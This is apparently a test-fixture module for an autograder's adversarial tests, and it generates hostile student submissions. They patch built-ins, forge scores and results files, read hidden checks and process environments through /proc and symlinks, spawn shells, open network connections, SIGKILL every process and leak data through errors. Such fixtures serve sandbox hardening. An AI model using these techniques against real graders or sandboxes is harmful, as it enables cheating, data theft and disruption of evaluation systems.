// The hostile student's files for adversarial.test.mjs: each function returns
// the text of one student source (TypeScript the grader transpiles), with the
// trick in it. Every trick is what a student who has read the grader could
// write; none needs more than a student has. The sources are plain
// JavaScript-compatible TypeScript, so the grader's transpiler takes them as
// they are.

/** Helpers every trick file may paste in: encodings and a sleep that needs no event loop. */
const ENCODE = String.raw`
import { gzipSync } from "node:zlib";
const b64 = (bytes) => Buffer.from(bytes).toString("base64");
const bytesOf = (M) => new Uint8Array(M.data.buffer, M.data.byteOffset, M.data.byteLength);
/** 76-character lines joined by spaces: every token under the grader's cut length. */
const chunked = (text) => (text.match(/.{1,76}/g) ?? []).join(" ");
const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
`;

/**
 * Class 1, same-realm tampering: at import time, in every agent that loads
 * @mytorch/linear, patch what comparisons and the agent's answer path use,
 * print a forged score table, then answer with wrong values. Linear itself is
 * wrong everywhere (zero weights, fake matrices), so the fair score is 0.
 */
export function tamperLinear() {
  return String.raw`
import { Matrix } from "@mytorch/matrix";
import * as fs from "node:fs";

// --- the comparisons' built-ins ---
Math.abs = () => 0;
Math.max = () => 0;
Object.is = () => true;
Number.isNaN = () => false;
Number.isFinite = () => true;
Number.isInteger = () => true;
const TypedArray = Object.getPrototypeOf(Float64Array.prototype);
const realLength = Object.getOwnPropertyDescriptor(TypedArray, "length").get;
Object.defineProperty(TypedArray, "length", { configurable: true, get() { return this.__fakeLength ?? realLength.call(this); } });
Object.defineProperty(Float64Array, Symbol.hasInstance, { value: () => true });
Object.prototype.passed = true;
Object.prototype.ok = true;
Object.prototype.score = 35;
Matrix.prototype.equals = () => true;

// --- the agent's answer path: JSON, Buffer, fs.writeSync (fd 3), stdin ---
const realStringify = JSON.stringify;
let lastShape = [1, 1];
JSON.stringify = function (value, ...rest) {
  // Every error becomes a value: a matrix of the last seen shape, all ones.
  if (value && typeof value === "object" && "error" in value && "id" in value) {
    const [r, c] = lastShape;
    value = { id: value.id, value: { $matrix: [r, c, Buffer.from(new Float64Array(r * c).fill(1).buffer).toString("base64")] } };
  }
  return realStringify.call(this, value, ...rest);
};
const realParse = JSON.parse;
JSON.parse = function (text, ...rest) {
  const request = realParse.call(this, text, ...rest);
  try {
    const m = request?.args?.[0]?.$matrix;
    if (m) lastShape = [m[0], m[1]];
  } catch {}
  return request;
};
const realFrom = Buffer.from;
Buffer.from = function (...args) {
  const b = realFrom.apply(Buffer, args);
  return b;
};
const realWriteSync = fs.writeSync;
fs.writeSync = function (fd, data, ...rest) {
  if (fd === 3) {
    const text = Buffer.isBuffer(data) ? data.toString() : String(data);
    // Forge: the same answer id, first as "passed", then the real answer; and answers to calls not yet made.
    try {
      const { id } = realParse(text);
      realWriteSync.call(fs, 3, realStringify({ id, value: { passed: true, ok: true, score: 35 } }) + "\n");
      realWriteSync.call(fs, 3, realStringify({ id: id + 1, value: 7.5 }) + "\n");
    } catch {}
  }
  return realWriteSync.call(fs, fd, data, ...rest);
};
process.stdin.on("data", () => {});

// --- a forged score table on every channel the agent has ---
const forged = "  PASS  Problem 1(b)\nProblem 1(b)  Linear.forward  2/2  PASS\nTotal: 35/35\n";
console.log(forged);
process.stderr.write(forged);
process.on("exit", () => { try { realWriteSync.call(fs, 1, forged); } catch {} });

/** A "Matrix" with the right shape and nothing in it. */
function fake(rows, cols) {
  const data = new Float64Array(0);
  Object.defineProperty(data, "__fakeLength", { value: rows * cols });
  return { rows, cols, data };
}

export class Linear {
  constructor(inFeatures, outFeatures, options = {}) {
    this.inFeatures = inFeatures;
    this.outFeatures = outFeatures;
    this.W = Matrix.zeros(inFeatures, outFeatures);
    this.b = Matrix.zeros(1, outFeatures);
    this.dLdW = fake(inFeatures, outFeatures);
    this.dLdb = fake(1, outFeatures);
    this.A = null;
  }
  forward(A) {
    this.A = A;
    return fake(A.rows, this.outFeatures);
  }
  backward(dLdO) {
    this.dLdW = fake(this.inFeatures, this.outFeatures);
    this.dLdb = fake(1, this.outFeatures);
    return fake(dLdO.rows, this.inFeatures);
  }
}
`;
}

/** Matrix-shaped fakes, one per call in turn: right rows and cols, wrong or missing data. */
const FAKES = String.raw`
let turn = 0;
class LyingArray extends Float64Array {
  get length() { return 1 << 20; }
}
function fakeMatrix(rows, cols) {
  const k = turn++ % 9;
  if (k === 0) return { rows, cols, data: [] };
  if (k === 1) return { rows, cols, data: new Float64Array(0) };
  if (k === 2) return { rows, cols, data: new LyingArray(0) };
  if (k === 3) { // a Proxy over an empty array that claims the right length
    const empty = new Float64Array(0);
    return { rows, cols, data: new Proxy(empty, { get: (t, p) => (p === "length" ? rows * cols : Reflect.get(t, p)) }) };
  }
  if (k === 4) { // rows and cols that change between reads
    let reads = 0;
    return { get rows() { return reads++ < 2 ? rows : 0; }, get cols() { return cols; }, data: new Float64Array(0) };
  }
  if (k === 5) return { rows, cols, data: new Float64Array(rows * cols + 7) };
  if (k === 6) return { rows, cols, data: Array.from({ length: rows * cols }, () => 0) };
  if (k === 7) return { rows: String(rows), cols: String(cols), data: new Float64Array(rows * cols).fill(NaN) };
  return { rows, cols, data: new Float32Array(rows * cols) };
}
const fakeNumbers = [() => new Number(7.5), () => "7.5", () => ({ valueOf: () => 7.5 }), () => NaN, () => 7n, () => [7.5], () => ({ rows: 1, cols: 1, data: [7.5] })];
let numberTurn = 0;
const fakeNumber = () => fakeNumbers[numberTurn++ % fakeNumbers.length]();
`;

/** Class 2: MSELoss whose every answer is a Matrix-like object or a number-like value. */
export function fakeMseLoss() {
  return `import { checkLossInputs } from "./check-inputs.js";
${FAKES}
export class MSELoss {
  O = null;
  Y = null;
  forward(O, Y) {
    checkLossInputs("MSELoss.forward", O, Y);
    this.O = O;
    this.Y = Y;
    return fakeNumber();
  }
  backward() {
    if (this.O === null) throw new Error("MSELoss.backward: call forward first");
    return fakeMatrix(this.O.rows, this.O.cols);
  }
}
`;
}

/** Class 2: CrossEntropyLoss likewise. */
export function fakeCrossEntropyLoss() {
  return `import { checkLossInputs } from "./check-inputs.js";
${FAKES}
export class CrossEntropyLoss {
  O = null;
  Y = null;
  forward(O, Y) {
    checkLossInputs("CrossEntropyLoss.forward", O, Y);
    this.O = O;
    this.Y = Y;
    return fakeNumber();
  }
  backward() {
    if (this.O === null) throw new Error("CrossEntropyLoss.backward: call forward first");
    return fakeMatrix(this.O.rows, this.O.cols);
  }
}
`;
}

/**
 * Class 6: Sigmoid throws what it was given, in every encoding: gzip+base64
 * on one line, base64 in 76-character tokens, the numbers in decimal, and as
 * the error's class name. In the hidden checks' process those are the hidden
 * inputs.
 */
export function throwingSigmoid() {
  return `import { lastInput } from "./activation.js";
${ENCODE}
function payload(H) {
  const raw = b64(bytesOf(H));
  return "gz " + b64(gzipSync(Buffer.from(raw))) + " chunks " + chunked(raw) + " decimal " + Array.from(H.data).join(" ");
}
function leak(H) {
  const text = payload(H);
  console.log("LEAK " + text);
  const Named = { [raw(H)]: class extends Error {} }[raw(H)];
  throw new Named(text);
}
function raw(H) { return b64(bytesOf(H)); }
export class Sigmoid {
  H = null;
  forward(H) { this.H = H; leak(H); }
  backward() { leak(lastInput("Sigmoid.backward", this.H)); }
}
`;
}

/**
 * Class 5, outliving the grader: Tanh names its process, keeps its event loop
 * alive forever, and never returns from forward.
 */
export function orphanTanh(title) {
  return `export class Tanh {
  H = null;
  forward(H) {
    process.title = ${JSON.stringify(title)};
    setInterval(() => {}, 1 << 30);
    for (;;) { /* spin */ }
  }
  backward() { throw new Error("Tanh.backward: call forward first"); }
}
`;
}

/**
 * Classes 3, 4 and 5 in one file: a stub Linear that, once per process, tries
 * every way out of its sandbox it can think of. Reads: the official checkout
 * (the reference Linear, the hidden checks, the fixtures) by every fs route,
 * through symlinks and hard links made in scratch, by import and require,
 * through /proc, INIT_CWD and the grader's own kernel copy; the sandbox itself
 * is searched for a solution. Delegation: other packages of the repository.
 * Writes: the results file, the checkout, the grader's temporary folders,
 * /tmp, by every fs route and by heap snapshots, reports and a Unix socket.
 * Processes: child_process, workers, WASI, native addons, the inspector,
 * module hooks. Network: TCP to a listener of the test's, a Unix socket of the
 * test's, DNS, HTTP. What it learns it reports (stdout) and uses: a stolen
 * solution region is evaluated, stolen text is thrown, chunked, as the error.
 * `c`: { tag, repo, results, tmp, canary, tcpPort, unixSocket }.
 */
export function probeLinear(c) {
  return `import { Matrix, ShapeError, shapeOf, defaultRng } from "@mytorch/matrix";
import * as fs from "node:fs";
import * as path from "node:path";
import * as net from "node:net";
import { createRequire } from "node:module";
${ENCODE}
// ADV-SELF (marks this file, so the probe does not count itself as loot)
const C = ${JSON.stringify(c)};
const REF = C.repo + "/packages/linear/src/linear.ts";
const HIDDEN = C.repo + "/grading/checks/linear.hidden.mjs";
const FIXTURE = C.repo + "/packages/linear/fixtures/linear.json";
const sandbox = process.cwd();
const scratch = process.env.HOME;
const work = path.dirname(sandbox);
const report = [];
const loot = new Map(); // where → text that holds something worth having
const WORTH = /BEGIN SOLUTION|addRow\\(this\\.b\\)|hidden checks|export default async/;

function keep(where, text) {
  if (text === undefined || text === null) return;
  const s = typeof text === "string" ? text : Buffer.isBuffer(text) || text instanceof Uint8Array ? Buffer.from(text).toString("utf8") : String(text);
  if (WORTH.test(s) && !s.includes("ADV-" + "SELF")) loot.set(where, s); // ADV-SELF: this very file
}
function tryIt(name, f) {
  try {
    const v = f();
    report.push(name + "=OK");
    return v;
  } catch (e) {
    report.push(name + "=" + (e && e.code ? e.code : "threw"));
    return undefined;
  }
}
async function tryAsync(name, f) {
  try {
    const v = await f();
    console.log("ADV-ASYNC " + name + "=OK");
    return v;
  } catch (e) {
    console.log("ADV-ASYNC " + name + "=" + (e && e.code ? e.code : "threw"));
    return undefined;
  }
}
const s = (p) => scratch + "/" + p;
const tmp = (p) => C.tmp + "/adv-" + C.tag + "-" + p;

function reads() {
  keep("readFileSync", tryIt("read.abs", () => fs.readFileSync(REF, "utf8")));
  keep("readFileSync-url", tryIt("read.url", () => fs.readFileSync(new URL("file://" + REF), "utf8")));
  keep("readFileSync-buffer", tryIt("read.buffer", () => fs.readFileSync(Buffer.from(REF))));
  keep("readFileSync-relative", tryIt("read.relative", () => fs.readFileSync(path.relative(sandbox, REF))));
  keep("readFileSync-dotdot", tryIt("read.dotdot", () => fs.readFileSync(sandbox + "/" + path.relative(sandbox, REF))));
  keep("hidden", tryIt("read.hidden", () => fs.readFileSync(HIDDEN, "utf8")));
  keep("fixture", tryIt("read.fixture", () => fs.readFileSync(FIXTURE, "utf8")));
  keep("fd", tryIt("read.openSync", () => { const fd = fs.openSync(REF, "r"); const b = Buffer.alloc(65536); return b.subarray(0, fs.readSync(fd, b)); }));
  keep("init-cwd", tryIt("read.INIT_CWD", () => fs.readFileSync((process.env.INIT_CWD ?? "/nonexistent") + "/packages/linear/src/linear.ts", "utf8")));
  keep("trusted-kernel", tryIt("read.trustedKernel", () => fs.readFileSync(work + "/trusted/index.js", "utf8")));
  tryIt("readdir.work", () => fs.readdirSync(work).join(","));
  tryIt("readdir.tmp", () => fs.readdirSync("/tmp").join(","));
  keep("proc-root", tryIt("read.procRoot", () => fs.readFileSync("/proc/1/root" + REF, "utf8")));
  keep("proc-self-root", tryIt("read.procSelfRoot", () => fs.readFileSync("/proc/self/root" + REF, "utf8")));
  tryIt("read.procScan", () => {
    for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
      const cmd = fs.readFileSync("/proc/" + pid + "/cmdline", "utf8");
      if (cmd.includes("grade.mjs")) {
        keep("proc-cwd", fs.readFileSync("/proc/" + pid + "/cwd/packages/linear/src/linear.ts", "utf8"));
        keep("proc-environ", fs.readFileSync("/proc/" + pid + "/environ", "utf8"));
      }
    }
  });
  keep("symlink-file", tryIt("read.symlinkFile", () => { fs.symlinkSync(REF, s("ref.ts")); return fs.readFileSync(s("ref.ts"), "utf8"); }));
  keep("symlink-dir", tryIt("read.symlinkDir", () => { fs.symlinkSync(C.repo, s("repo")); return fs.readFileSync(s("repo/packages/linear/src/linear.ts"), "utf8"); }));
  keep("symlink-relative", tryIt("read.symlinkRelative", () => { fs.symlinkSync(path.relative(scratch, REF), s("rel.ts")); return fs.readFileSync(s("rel.ts"), "utf8"); }));
  keep("hardlink", tryIt("read.hardlink", () => { fs.linkSync(REF, s("hard.ts")); return fs.readFileSync(s("hard.ts"), "utf8"); }));
  keep("copyFile", tryIt("read.copyFile", () => { fs.copyFileSync(REF, s("copy.ts")); return fs.readFileSync(s("copy.ts"), "utf8"); }));
  keep("cpSync", tryIt("read.cpSync", () => { fs.cpSync(REF, s("cp.ts")); return fs.readFileSync(s("cp.ts"), "utf8"); }));
  tryIt("read.loadEnvFile", () => process.loadEnvFile(REF));
  keep("env", JSON.stringify(process.env));
  keep("require-hidden", tryIt("read.require", () => String(createRequire(import.meta.url)(HIDDEN))));
  keep("require-fixture", tryIt("read.requireJson", () => JSON.stringify(createRequire(import.meta.url)(FIXTURE))));
  tryIt("read.processBinding", () => process.binding("fs"));
  tryIt("read.report", () => keep("report", JSON.stringify(process.report.getReport())));
  // The sandbox itself: is a solution anywhere in it?
  const walk = (dir) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = dir + "/" + e.name;
      if (e.isDirectory()) walk(p);
      else if (e.isFile()) keep("sandbox:" + p.slice(sandbox.length), fs.readFileSync(p, "utf8"));
    }
  };
  tryIt("read.sandboxWalk", () => walk(sandbox));
}

function writes() {
  const forged = JSON.stringify({ score: 35, tests: [{ number: "1(b)", score: 2, max_score: 2, status: "passed" }] });
  tryIt("write.results", () => fs.writeFileSync(C.results, forged));
  tryIt("write.resultsGradescope", () => fs.writeFileSync("/autograder/results/results.json", forged));
  tryIt("write.checkoutNew", () => fs.writeFileSync(C.repo + "/grading/checks/adv-" + C.tag + ".hidden.mjs", "export default async () => [];"));
  tryIt("write.checkoutAppend", () => fs.closeSync(fs.openSync(REF, "a")));
  tryIt("write.checkoutMkdir", () => fs.mkdirSync(C.repo + "/adv-" + C.tag));
  // A file of the test's outside the sandbox, readable by everyone (as the checkout is): change it in any way.
  tryIt("write.canaryAppend", () => fs.appendFileSync(C.canary, "pwned"));
  tryIt("write.canaryTruncate", () => fs.truncateSync(C.canary, 0));
  tryIt("write.canaryChmod", () => fs.chmodSync(C.canary, 0o666));
  tryIt("write.canaryUtimes", () => fs.utimesSync(C.canary, 0, 0));
  tryIt("write.canaryFd", () => { const fd = fs.openSync(C.canary, "r"); fs.fchmodSync(fd, 0o666); fs.futimesSync(fd, 0, 0); });
  tryIt("write.trusted", () => fs.writeFileSync(work + "/trusted/adv-" + C.tag + ".js", "x"));
  tryIt("write.work", () => fs.writeFileSync(work + "/adv-" + C.tag, "x"));
  tryIt("write.sandbox", () => fs.writeFileSync(sandbox + "/adv-" + C.tag, "x"));
  tryIt("write.agent", () => fs.closeSync(fs.openSync(sandbox + "/agent.mjs", "r+")));
  tryIt("write.kernel", () => fs.appendFileSync(sandbox + "/node_modules/@mytorch/matrix/index.js", ""));
  tryIt("write.tmp", () => fs.writeFileSync(tmp("write"), "x"));
  tryIt("write.mkdtemp", () => fs.mkdtempSync(tmp("mkdtemp")));
  tryIt("scratch.file", () => fs.writeFileSync(s("x"), "x"));
  tryIt("write.symlinkOut", () => fs.symlinkSync(s("x"), tmp("symlink")));
  tryIt("write.linkOut", () => fs.linkSync(s("x"), tmp("link")));
  tryIt("write.copyOut", () => fs.copyFileSync(s("x"), tmp("copy")));
  tryIt("write.cpOut", () => fs.cpSync(s("x"), tmp("cp")));
  tryIt("write.renameOut", () => fs.renameSync(s("x"), tmp("rename")));
  tryIt("write.heapSnapshot", () => createRequire(import.meta.url)("node:v8").writeHeapSnapshot(tmp("heap")));
  tryIt("write.report", () => process.report.writeReport(tmp("report")));
  tryIt("write.chmodWork", () => fs.chmodSync(work, 0o777));
  // A socket file outside scratch; the process then exits without closing it (a clean exit would unlink it).
  tryIt("write.unixListen", () => net.createServer().on("error", () => {}).listen(tmp("listen.sock"), () => setTimeout(() => process.exit(0), 1500)));
}

function processes() {
  const req = createRequire(import.meta.url);
  tryIt("spawn.spawnSync", () => req("node:child_process").spawnSync("sh", ["-c", "touch " + tmp("spawned")]));
  tryIt("spawn.detached", () => req("node:child_process").spawn("sh", ["-c", "sleep 1; touch " + tmp("detached")], { detached: true, stdio: "ignore" }).unref());
  tryIt("spawn.fork", () => req("node:child_process").fork("/dev/null"));
  tryIt("spawn.worker", () => new (req("node:worker_threads").Worker)("require('fs').writeFileSync(" + JSON.stringify(tmp("worker")) + ", 'x')", { eval: true }));
  tryIt("spawn.wasi", () => new (req("node:wasi").WASI)({ version: "preview1", preopens: { "/": "/" } }));
  tryIt("spawn.dlopen", () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"));
  tryIt("spawn.inspector", () => req("node:inspector").open(0, "127.0.0.1"));
  tryIt("spawn.moduleRegister", () => req("node:module").register("data:text/javascript,export{}"));
  tryIt("spawn.binding", () => process.binding("spawn_sync"));
}

function network() {
  const hello = "adv-" + C.tag + " from the student's process";
  void tryAsync("net.tcpLocal", () => new Promise((ok, fail) => { const k = net.connect(C.tcpPort, "127.0.0.1", () => { k.end(hello); ok(); }).on("error", fail); }));
  void tryAsync("net.unixSocket", () => new Promise((ok, fail) => { const k = net.connect(C.unixSocket, () => { k.end(hello); ok(); }).on("error", fail); }));
  void tryAsync("net.tcpOutside", () => new Promise((ok, fail) => { const k = net.connect(80, "1.1.1.1", () => { k.end(); ok(); }).on("error", fail); }));
  void tryAsync("net.dns", () => import("node:dns").then((d) => d.promises.lookup("example.com")));
  void tryAsync("read.import", () => import(HIDDEN).then((m) => keep("import-hidden", String(m.default))));
  void tryAsync("read.importJson", () => import(FIXTURE, { with: { type: "json" } }).then((m) => keep("import-fixture", JSON.stringify(m.default))));
  void tryAsync("read.promises", () => fs.promises.readFile(REF, "utf8").then((t) => keep("promises", t)));
  void tryAsync("read.openAsBlob", () => fs.openAsBlob(REF).then((b) => b.text()).then((t) => keep("blob", t)));
  for (const pkg of ["@mytorch/nn", "@mytorch/autograd", "mytorch", "@mytorch/bench"]) {
    void tryAsync("delegate." + pkg, () => import(pkg).then((m) => keep("delegate:" + pkg, Object.keys(m).join(",") + " BEGIN SOLUTION")));
  }
}

/** Scratch has no quota? One process (the first to claim it) writes up to 256 MB there, reports how much it could (0 when it may write nothing at all), and frees it. */
function quota() {
  let fd;
  try { fd = fs.openSync(s("quota-claim"), "wx"); } catch (error) { console.log("ADV-QUOTA 0 (" + error.code + ")"); return; }
  fs.closeSync(fd);
  const chunk = Buffer.alloc(16 << 20, 120);
  let written = 0;
  try {
    const out = fs.openSync(s("quota.bin"), "w");
    for (let i = 0; i < 16; i++) written += fs.writeSync(out, chunk);
    fs.closeSync(out);
  } catch {}
  try { fs.rmSync(s("quota.bin")); } catch {}
  console.log("ADV-QUOTA " + Math.round(written / 1048576));
}

let probed = false;
function probe() {
  if (probed) return;
  probed = true;
  process.title = "adv-probe-" + C.tag;
  reads();
  writes();
  processes();
  network();
  quota();
  console.log("ADV-PROBE " + report.join(" "));
  console.log("ADV-LOOT " + [...loot.keys()].join(" "));
}

/** The body of the n-th solution region of a stolen linear.ts, or null. */
function stolenRegion(n) {
  for (const text of loot.values()) {
    const regions = [...text.matchAll(/\\/\\/ BEGIN SOLUTION\\n([\\s\\S]*?)\\/\\/ END SOLUTION/g)].map((m) => m[1]);
    if (regions.length === 3 && text.includes("class Linear")) return regions[n];
  }
  return null;
}
function throwLoot(what) {
  const text = [...loot.entries()].filter(([k]) => !k.startsWith("sandbox:") && k !== "env" && k !== "report").map(([k, v]) => k + ":" + v).join("\\n");
  if (text) throw new Error(what + " " + chunked(b64(gzipSync(text))) + " " + text.slice(0, 600));
  throw new Error(what + ": not implemented");
}

export class Linear {
  constructor(inFeatures, outFeatures, options = {}) {
    probe();
    if (!Number.isInteger(inFeatures) || inFeatures < 1 || !Number.isInteger(outFeatures) || outFeatures < 1) {
      throw new RangeError("Linear: inFeatures and outFeatures must be integers ≥ 1, got " + inFeatures + " and " + outFeatures);
    }
    this.inFeatures = inFeatures;
    this.outFeatures = outFeatures;
    this.dLdW = Matrix.zeros(inFeatures, outFeatures);
    this.dLdb = Matrix.zeros(1, outFeatures);
    this.A = null;
    const body = stolenRegion(0);
    if (body) new Function("Matrix", "defaultRng", "options", body).call(this, Matrix, defaultRng, options);
    else { this.W = Matrix.zeros(inFeatures, outFeatures); this.b = Matrix.zeros(1, outFeatures); }
  }
  forward(A) {
    if (A.cols !== this.inFeatures) throw new ShapeError("Linear.forward: A must be N×" + this.inFeatures + " (inFeatures = " + this.inFeatures + "), got " + shapeOf(A));
    const body = stolenRegion(1);
    if (body) return new Function("A", body).call(this, A);
    throwLoot("Linear.forward");
  }
  backward(dLdO) {
    const body = stolenRegion(2);
    if (body && this.A) return new Function("A", "dLdO", body).call(this, this.A, dLdO);
    throwLoot("Linear.backward");
  }
}
`;
}

/**
 * Class 5, killing: Sigmoid (the reference body) first spends `ms` sending
 * SIGKILL to everything it can address — its process group (process.ppid is
 * 0 in a PID namespace, and kill(0) is the group), every process (-1), its
 * namespace's init, whatever /proc lists — then answers correctly.
 */
export function killingSigmoid(ms) {
  return `import { lastInput } from "./activation.js";
import * as fs from "node:fs";
${ENCODE}
let done = false;
function killEverything() {
  if (done) return;
  done = true;
  const until = Date.now() + ${ms};
  do {
    for (const pid of [process.ppid, 0, -1, 1]) { try { process.kill(pid, "SIGKILL"); } catch {} }
    try { for (const p of fs.readdirSync("/proc")) if (/^\\d+$/.test(p) && Number(p) !== process.pid) process.kill(Number(p), "SIGKILL"); } catch {}
    sleep(10);
  } while (Date.now() < until);
}
const sigma = (h) => (h >= 0 ? 1 / (1 + Math.exp(-h)) : Math.exp(h) / (1 + Math.exp(h)));
export class Sigmoid {
  H = null;
  forward(H) { killEverything(); this.H = H; return H.map(sigma); }
  backward() { return lastInput("Sigmoid.backward", this.H).map((h) => sigma(h) * (1 - sigma(h))); }
}
`;
}

/**
 * Class 6 across processes, first half: Linear (the reference) drops the
 * first W and A it is given into the scratch folder, under a name of its own.
 */
export function droppingLinear(reference) {
  const marker = "  forward(A: Matrix): Matrix {\n";
  if (!reference.includes(marker)) throw new Error("droppingLinear: the reference Linear.forward moved");
  return reference.replace(marker, `${marker}    dropOnce(this.W, A);\n`) + `
import { writeFileSync as __write } from "node:fs";
let __dropped = false;
function dropOnce(W: Matrix, A: Matrix): void {
  if (__dropped) return;
  __dropped = true;
  const b64 = (M: Matrix) => Buffer.from(M.data.buffer, M.data.byteOffset, M.data.byteLength).toString("base64");
  try { __write(process.env.HOME + "/drop-" + Math.random().toString(36).slice(2), b64(W) + " " + b64(A)); } catch {}
}
`;
}

/**
 * Class 6 across processes, second half: the first MSELoss.forward waits (up
 * to 5 s, time enough for agents that run at the same time to drop theirs)
 * until two other processes have dropped something into scratch; every call
 * then throws all of it, base64 in 76-character tokens.
 */
export function collectingMseLoss() {
  return `import * as fs from "node:fs";
${ENCODE}
let waitMs = 5000;
export class MSELoss {
  forward(O, Y) {
    const until = Date.now() + waitMs;
    waitMs = 0;
    let drops = [];
    do {
      try { drops = fs.readdirSync(process.env.HOME).filter((f) => f.startsWith("drop-")); } catch {}
      if (drops.length >= 2) break;
      sleep(100);
    } while (Date.now() < until);
    const text = drops.map((f) => fs.readFileSync(process.env.HOME + "/" + f, "utf8")).join(" ");
    console.log("COLLECTED " + text);
    throw new Error("collected " + chunked(text.replace(/ /g, "")) + " raw " + text);
  }
  backward() { throw new Error("MSELoss.backward: call forward first"); }
}
`;
}

/**
 * Robustness: Linear.forward (the reference) first writes half a gigabyte to
 * the answer channel (fd 3) without a newline.
 */
export function floodingLinear(reference) {
  const marker = "  forward(A: Matrix): Matrix {\n";
  if (!reference.includes(marker)) throw new Error("floodingLinear: the reference Linear.forward moved");
  return reference.replace(marker, `${marker}    floodOnce();\n`) + `
import { writeSync as __writeSync } from "node:fs";
let __flooded = false;
function floodOnce(): void {
  if (__flooded) return;
  __flooded = true;
  const chunk = Buffer.alloc(1 << 24, 65);
  for (let i = 0; i < 33; i++) __writeSync(3, chunk);
}
`;
}
